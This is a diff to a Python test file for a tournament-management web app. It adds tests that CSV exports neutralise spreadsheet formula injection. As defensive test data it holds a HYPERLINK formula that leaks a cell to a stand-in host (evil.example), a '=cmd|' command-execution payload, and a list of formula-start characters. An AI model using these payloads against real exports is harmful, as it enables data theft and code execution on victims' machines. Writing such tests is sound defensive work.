@@ -4,6 +4,8 @@ with the server's state as it was."""
 from __future__ import annotations
 
 import ast
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -14,9 +16,10 @@ import websockets
 from sqlalchemy import text
 
 from app.api import guard
+from app.api.events import csv_cell
 from app.settings import Settings
 from app.store.repository import Store
-from tests.conftest import RunningServer
+from tests.conftest import PhoneFactory, RunningServer, token_of
 
 APP = Path(__file__).resolve().parents[2] / "app"
 
@@ -125,3 +128,69 @@ async def test_dashboard_socket_compares_eo_token_in_constant_time(
     assert await role(json.dumps({"t": "hello", "token": ""})) == "public"
     assert await role(json.dumps({"t": "hello", "token": 12345})) == "public"
     assert await role('{"t": "hello", "token": "\\ud800"}') == "public"
+
+
+# --- CSV exports: no formula runs in the EO's spreadsheet ----------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for prizes")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+async def test_csv_exports_neutralise_formula_cells(
+    server: RunningServer, phone: PhoneFactory
+) -> None:
+    """ST6 exports: player-typed text that a spreadsheet would run (a list played of
+    =HYPERLINK(...), a name of =cmd|..., a faction of +, a name of @) is written with a
+    leading single quote; the numbers the server wrote stay plain numbers; the stored
+    text (the JSON API) is as the players typed it."""
+    evil_names = ["=cmd|' /C calc'!A0", "@SUM(1+1)"]
+    async with httpx.AsyncClient(base_url=server.base) as http:
+        eid, token = await _event(http)
+        eo = {"X-EO-Token": token}
+        for name, faction in zip(evil_names, ("+Cryx", "-1+1"), strict=True):
+            added = await http.post(
+                f"/api/events/{eid}/players", json={"name": name, "faction": faction}, headers=eo
+            )
+            assert added.status_code == 201, added.text
+        assert (await http.post(f"/api/events/{eid}/rounds", json={}, headers=eo)).is_success
+        assert (await http.post(f"/api/events/{eid}/rounds/current/start", headers=eo)).is_success
+        (table,) = (await http.get(f"/api/events/{eid}/tables", headers=eo)).json()
+        tid = table["links"]["id"]
+        p1 = await phone(tid, token_of(table["links"]["p1"]["url"]), "csv-1")
+        p2 = await phone(tid, token_of(table["links"]["p2"]["url"]), "csv-2")
+        assert (await p1.command("concede"))["t"] == "ack"
+        reported = await p2.command("report", army_points_destroyed=20, list_played=HYPERLINK)
+        assert reported["t"] == "ack", reported
+        for client in (p1, p2):
+            assert (await client.command("confirm"))["t"] == "ack", client.received[-1]
+
+        exports = {}
+        for name in ("results", "standings", "pairings"):
+            response = await http.get(f"/api/events/{eid}/{name}.csv")
+            assert response.status_code == 200
+            exports[name] = list(csv.DictReader(io.StringIO(response.text)))
+        winner = evil_names[1] if table["names"][1] == evil_names[1] else evil_names[0]
+        sheet_id = next(
+            p["id"]
+            for p in (await http.get(f"/api/events/{eid}")).json()["players"]
+            if p["name"] == winner
+        )
+        sheet = (await http.get(f"/api/events/{eid}/players/{sheet_id}/sheet")).json()
+
+    cells = [v for rows in exports.values() for row in rows for v in row.values()]
+    assert cells and not [v for v in cells if v.startswith(FORMULA_STARTS)]
+    lists = [row["list_played"] for row in exports["results"] if row["list_played"]]
+    assert lists == ["'" + HYPERLINK]
+    assert {row["player"] for row in exports["results"]} == {"'" + n for n in evil_names}
+    assert {row["faction"] for row in exports["results"]} == {"'+Cryx", "'-1+1"}
+    assert {row["control_points"] for row in exports["results"]} <= {"0", "3"}  # numbers
+    assert all(row["round"] == "1" for row in exports["pairings"])
+    assert sheet["rounds"][0]["list_played"] == HYPERLINK  # stored as typed
+
+
+def test_csv_cell_keeps_numbers_and_plain_text() -> None:
+    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5 and csv_cell(None) is None
+    assert csv_cell("Eiryss") == "Eiryss" and csv_cell("") == ""
+    assert csv_cell("-3") == "'-3"  # typed text, not a number the server wrote
+    for start in FORMULA_STARTS:
+        assert csv_cell(start + "1+1") == "'" + start + "1+1"
